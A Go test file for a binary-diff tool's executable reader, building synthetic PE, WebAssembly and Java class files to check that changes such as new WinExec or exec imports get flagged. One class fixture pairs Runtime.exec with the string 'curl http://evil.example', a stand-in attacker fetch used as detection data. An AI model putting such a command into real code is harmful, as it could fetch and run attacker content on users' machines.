package executable

import (
	"bytes"
	"encoding/binary"
	"testing"

	"github.com/stagescope/stagescope/diff"
)

// peProgram writes a PE program: code, and imports of one library.
func peProgram(stamp uint32, code []byte, names ...string) []byte {
	const text, data = 0x400, 0x600
	code = append(code, make([]byte, 0x200-len(code))...)
	imports := make([]byte, 0x200)
	copy(imports, le(uint32(0x2000+0x40), uint32(0), uint32(0), uint32(0x2000+0x80), uint32(0x2000+0x60)))
	copy(imports[0x80:], "kernel32.dll\x00")
	for i, n := range names {
		copy(imports[0x40+8*i:], le(uint64(0x2000+0xa0+0x20*i)))
		copy(imports[0xa0+0x20*i+2:], n+"\x00")
	}
	out := append(le("MZ", make([]byte, 58), uint32(64)), le("PE\x00\x00", uint16(0x8664), uint16(2), stamp, uint32(0), uint32(0), uint16(240), uint16(0x22))...)
	opt := make([]byte, 240)
	copy(opt, le(uint16(0x20b), uint16(0), uint32(0x200), uint32(0x200), uint32(0), uint32(0x1000), uint32(0x1000), uint64(0x140000000)))
	copy(opt[108:], le(uint32(16), uint64(0), uint32(0x2000), uint32(40)))
	out = append(out, opt...)
	section := func(name string, va, off, char uint32) {
		out = append(out, le(name, make([]byte, 8-len(name)), uint32(0x200), va, uint32(0x200), off, make([]byte, 12), char)...)
	}
	section(".text", 0x1000, text, 0x60000020)
	section(".rdata", 0x2000, data, 0x40000040)
	out = append(out, make([]byte, text-len(out))...)
	return append(append(out, code...), imports...)
}

func TestPE(t *testing.T) {
	code := le(enter, "\xb8\x01\x00\x00\x00", work, leave)
	a := peProgram(1_700_000_000, code, "ReadFile")
	t.Run("time", func(t *testing.T) {
		n := compareFiles(t, a, peProgram(1_700_009_999, code, "ReadFile"))
		h := child(t, n, "PE header")
		if n.Kind != KindPE || len(h.Reasons) != 1 || h.Reasons[0].Cause == nil || h.Reasons[0].Cause.ID != "D1d" || n.Suspicious != 0 {
			t.Error(sketch(n, ""))
		}
	})
	t.Run("code and import", func(t *testing.T) {
		other := bytes.Replace(code, []byte("\xb8\x01"), []byte("\xb8\x02"), 1)
		n := compareFiles(t, a, peProgram(1_700_000_000, other, "ReadFile", "WinExec"))
		if !said(n, diff.SuspectImport, "kernel32.dll!WinExec") || !said(child(t, n, ".text"), diff.SuspectChangedCode, "mov eax, 0x1 → mov eax, 0x2") {
			t.Error(sketch(n, ""))
		}
	})
}

// wasmModule writes a module that imports functions and has code.
func wasmModule(code string, imports ...string) []byte {
	section := func(id byte, body []byte) []byte {
		return append(binary.AppendUvarint([]byte{id}, uint64(len(body))), body...)
	}
	var im []byte
	im = append(im, byte(len(imports)))
	for _, s := range imports {
		im = append(im, le(byte(3), "env", byte(len(s)), s, byte(0), byte(0))...)
	}
	out := le("\x00asm\x01\x00\x00\x00")
	out = append(out, section(1, le("\x01\x60\x00\x00"))...)
	out = append(out, section(2, im)...)
	out = append(out, section(3, le("\x01\x00"))...)
	out = append(out, section(7, le("\x01\x04main\x00\x00"))...)
	out = append(out, section(10, le(byte(1), byte(len(code)+2), byte(0), code, byte(0x0b)))...)
	return append(out, section(0, le("\x04name\x01\x02\x03"))...)
}

func TestWasm(t *testing.T) {
	n := compareFiles(t, wasmModule("\x01\x01", "read"), wasmModule("\x01\x01\x01", "read", "exec"))
	if n.Kind != KindWasm || !said(n, diff.SuspectImport, "function env.exec") || !said(n, diff.SuspectChangedCode, "its code differs") {
		t.Fatal(sketch(n, ""))
	}
	if s := child(t, n, "size of code"); s.Residue != diff.ResidueNone {
		t.Error(sketch(n, ""))
	}
}

// classFile writes a class with one method and constants.
func classFile(version uint16, method, text string) []byte {
	be := func(vs ...any) []byte {
		var b bytes.Buffer
		for _, v := range vs {
			if s, ok := v.(string); ok {
				b.WriteString(s)
			} else {
				binary.Write(&b, binary.BigEndian, v)
			}
		}
		return b.Bytes()
	}
	str := func(s string) []byte { return be(byte(1), uint16(len(s)), s) }
	out := be(uint32(0xcafebabe), uint16(0), version, uint16(13))
	for _, c := range [][]byte{str("A"), be(byte(7), uint16(1)), str("java/lang/Runtime"), be(byte(7), uint16(3)), str(method), str("()V"), be(byte(12), uint16(5), uint16(6)),
		be(byte(10), uint16(4), uint16(7)), str(text), be(byte(8), uint16(9)), str("run"), str("Code")} {
		out = append(out, c...)
	}
	out = append(out, be(uint16(0x21), uint16(2), uint16(2), uint16(0), uint16(0))...)
	out = append(out, be(uint16(1), uint16(1), uint16(11), uint16(6), uint16(1), uint16(12), uint32(3), "\x2a\xb7\xb1")...)
	return append(out, be(uint16(0))...)
}

func TestClass(t *testing.T) {
	n := compareFiles(t, classFile(61, "load", "hello"), classFile(65, "exec", "curl http://evil.example"))
	if n.Kind != KindClass || !said(n, diff.SuspectImport, "java/lang/Runtime.exec ()V") || !said(n, diff.SuspectString, "an address on a network") {
		t.Fatal(sketch(n, ""))
	}
	if reasonOf(n, "version of the class format") == nil {
		t.Error(sketch(n, ""))
	}
	if n := compareFiles(t, classFile(61, "load", "hello"), append(classFile(61, "load", "hello"), 7)); n.Status != diff.Differs || n.Residue == diff.ResidueNone {
		t.Error(sketch(n, ""))
	}
}

// FuzzOthers holds the readers of the other formats to what FuzzELF does.
func FuzzOthers(f *testing.F) {
	code := le(enter, work, leave)
	f.Add(peProgram(1, code, "a"), peProgram(2, code, "b", "c"))
	f.Add(wasmModule("\x01", "a"), wasmModule("\x01\x01", "b"))
	f.Add(classFile(61, "a", "b"), classFile(65, "c", "d"))
	f.Fuzz(func(t *testing.T, a, b []byte) {
		if len(a)+len(b) > 1<<16 {
			return
		}
		x := diff.NewExaminer(diff.Options{Workers: 1})
		in := func(p []byte) *diff.Input {
			return &diff.Input{ReaderAt: bytes.NewReader(p), Name: "p", Size: int64(len(p))}
		}
		n, err := x.Pair(t.Context(), "", "p", in(a), in(b))
		if err != nil {
			t.Fatal(err)
		}
		if (n.Status == diff.Same) != bytes.Equal(a, b) {
			t.Fatalf("it is %s", n.Status)
		}
	})
}
